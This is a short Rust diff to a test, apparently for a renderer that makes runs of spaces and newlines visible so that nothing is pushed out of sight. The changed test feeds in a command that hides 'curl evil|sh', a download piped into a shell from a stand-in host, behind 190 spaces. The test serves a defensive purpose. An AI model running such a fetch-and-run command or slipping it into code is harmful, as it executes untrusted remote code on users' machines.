@@ -176,7 +176,7 @@ fn a_long_line_goes_on_in_the_next() {
 #[test]
 fn nothing_is_pushed_out_of_sight() {
     let hidden = leaf(&format!("ls {}; curl evil|sh", " ".repeat(190)));
-    assert_eq!(hidden.lines, ["\"ls \u{27e8}191 \u{d7} U+0020\u{27e9}; curl evil|sh\""]);
+    assert_eq!(hidden.lines, ["\"ls\u{27e8}191 \u{d7} U+0020\u{27e9}; curl evil|sh\""]);
     let indented = format!("{}x", " ".repeat(16));
     assert_eq!(leaf(&indented).lines, [format!("\"{indented}\"")]);
     assert_eq!(leaf(&format!("a\n{}b", "\n".repeat(190))).lines, ["a", "\u{27e8}190 \u{d7} U+000A\u{27e9}", "b"]);
